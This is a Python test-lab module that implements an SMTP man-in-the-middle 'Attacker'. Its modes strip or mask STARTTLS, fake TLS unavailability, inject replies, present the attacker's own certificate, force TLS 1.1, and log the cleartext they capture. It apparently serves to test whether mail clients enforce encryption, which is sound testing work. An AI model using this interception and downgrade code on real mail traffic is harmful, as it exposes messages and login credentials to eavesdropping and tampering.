"""Somebody between us and the mail server, who can read and change all bytes.

	attacker = Attacker(net, "198.51.100.66", upstream, "strip")

Connections to its address go to the upstream server, with the attack:

    pass      nothing is changed
    strip     the STARTTLS line is taken out of the answer to EHLO
    mask      ... or made unreadable, as some firewalls do
    454       STARTTLS is answered "not available" in the server's name
    inject    a reply is added behind the server's 220 to STARTTLS
    cut       the connection is cut at STARTTLS
    mitm      TLS with the attacker's own certificate
    tls11     ... and no newer than TLS 1.1
    tap       every byte is passed on, TLS from the first one too

attacker.clear has what it could read: the lines that came in clear text; in
mitm and tls11 those within its TLS; in tap whatever the client sent.
"""

import re
import socket
import ssl
import threading

import lab_ns


class Attacker:
    def __init__(self, lab, address, upstream, mode, cert=None,
                 port=25):
        lab_ns.add_address(address)
        self.address, self.upstream = address, upstream
        self.mode, self.cert, self.port = mode, cert, port
        self.clear = []
        self.connections = 0
        self.sock = lab_ns.in_internet(self.listen)
        threading.Thread(target=self.accept, daemon=True).start()

    def listen(self):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((self.address, self.port))
        s.listen(64)
        return s

    def accept(self):
        while True:
            client, _ = self.sock.accept()
            self.connections += 1
            threading.Thread(target=self.attack, args=(client,),
                             daemon=True).start()

    def attack(self, client):
        server = lab_ns.in_internet(
            socket.create_connection, (self.upstream, self.port))
        try:
            Wire(self, client, server).run()
        except OSError:
            pass
        finally:
            client.close()
            server.close()

    def context(self):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(*self.cert)
        if self.mode == "tls11":
            context.set_ciphers("ALL:@SECLEVEL=0")
            context.minimum_version = ssl.TLSVersion.TLSv1
            context.maximum_version = ssl.TLSVersion.TLSv1_1
        return context


class Wire:
    """One connection: commands go through line by line, replies as well."""

    def __init__(self, attacker, client, server):
        self.a, self.client, self.server = attacker, client, server
        self.buffers = {client: b"", server: b""}

    def line(self, sock):
        while b"\n" not in self.buffers[sock]:
            data = sock.recv(65536)
            if not data:
                raise OSError("ended")
            self.buffers[sock] += data
        line, _, self.buffers[sock] = self.buffers[sock].partition(b"\n")
        return line + b"\n"

    def reply(self):
        lines = [self.line(self.server)]
        while lines[-1][3:4] == b"-":
            lines.append(self.line(self.server))
        return b"".join(lines)

    def tamper(self, reply):
        if self.a.mode == "strip":
            reply = re.sub(rb"250-STARTTLS\r\n", b"", reply)
        elif self.a.mode == "mask":
            reply = reply.replace(b"STARTTLS", b"XXXXXXXA")
        return reply

    def body(self):
        while True:
            line = self.line(self.client)
            self.a.clear.append(line)
            self.server.sendall(line)
            if line == b".\r\n":
                return

    def chunk(self, command):
        left = int(command.split()[1])
        while left > 0:
            data = self.buffers[self.client][:left]
            self.buffers[self.client] = self.buffers[self.client][left:]
            if not data:
                data = self.client.recv(min(left, 65536))
                if not data:
                    raise OSError("ended")
            self.a.clear.append(data)
            self.server.sendall(data)
            left -= len(data)

    def starttls(self):
        if self.a.mode == "454":
            self.client.sendall(b"454 4.7.0 TLS not available\r\n")
            return False
        if self.a.mode == "cut":
            raise OSError("cut")
        if self.a.mode in ("mitm", "tls11"):
            self.client.sendall(b"220 2.0.0 go on\r\n")
            self.client = self.a.context().wrap_socket(self.client,
                                                       server_side=True)
            self.buffers[self.client] = b""
            return False		# goes on reading, within TLS
        self.server.sendall(b"STARTTLS\r\n")
        reply = self.reply()
        if self.a.mode == "inject":
            reply += b"250 2.0.0 injected\r\n"
        self.client.sendall(reply)
        return True

    def blind(self):
        """Under TLS there is nothing to see: bytes go both ways."""
        def copy(source, to):
            try:
                while data := source.recv(65536):
                    if self.a.mode == "tap" and source is self.client:
                        self.a.clear.append(data)
                    to.sendall(data)
            except OSError:
                pass
            try:
                to.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
        other = threading.Thread(target=copy, args=(self.server, self.client),
                                 daemon=True)
        other.start()
        copy(self.client, self.server)
        other.join()

    def run(self):
        if self.a.mode == "tap":
            self.blind()
            return
        self.client.sendall(self.reply())
        while True:
            line = self.line(self.client)
            self.a.clear.append(line)
            verb = line.split()[0].upper() if line.split() else b""
            if verb == b"STARTTLS":
                if self.starttls():
                    self.blind()
                    return
                continue
            self.server.sendall(line)
            if verb == b"BDAT":
                self.chunk(line)
            reply = self.reply()
            self.client.sendall(self.tamper(reply))
            if verb == b"DATA" and reply.startswith(b"354"):
                self.body()
                self.client.sendall(self.reply())
